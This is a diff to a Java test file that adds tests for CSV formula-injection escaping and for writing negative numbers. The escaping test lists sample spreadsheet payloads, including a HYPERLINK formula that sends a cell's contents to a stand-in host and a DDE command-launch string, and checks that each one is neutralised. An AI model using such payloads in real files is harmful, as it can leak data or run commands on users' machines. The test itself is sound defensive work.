@@ -43,4 +43,23 @@ class CsvTest {
                 .isEqualTo("plain,\"with,comma\",\"with \"\"quote\"\"\",,42");
         assertThat(Csv.parse(Csv.line(List.of("a,b", "c\"d"))).getFirst().fields()).containsExactly("a,b", "c\"d");
     }
+
+    @Test
+    void neutralisesTextThatASpreadsheetWouldRunAsAFormula() {
+        // OWASP CSV injection: = + - @ tab and carriage return start a formula; the cell gets a leading quote
+        List<String> attacks = List.of("=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")", "-2+3+cmd|' /C calc'!A0", "+1", "@SUM(A1)",
+                "\t=1", "\r=1");
+        List<String> written = Csv.parse(Csv.line(attacks)).getFirst().fields();
+        for (int i = 0; i < attacks.size(); i++) {
+            assertThat(written.get(i)).isEqualTo("'" + attacks.get(i));
+        }
+        assertThat(Csv.line(List.of("=1,2"))).isEqualTo("\"'=1,2\"");
+        assertThat(Csv.line(List.of("Plain Name", "O'Brien", "a-b", ""))).isEqualTo("Plain Name,O'Brien,a-b,");
+    }
+
+    @Test
+    void writesTheServicesOwnNumbersAsNumbersEvenWhenNegative() {
+        assertThat(Csv.line(Arrays.asList(new java.math.BigDecimal("-1200.00"), -3, -4L, new java.math.BigDecimal("1E+3"), 2.5)))
+                .isEqualTo("-1200.00,-3,-4,1000,2.5");
+    }
 }
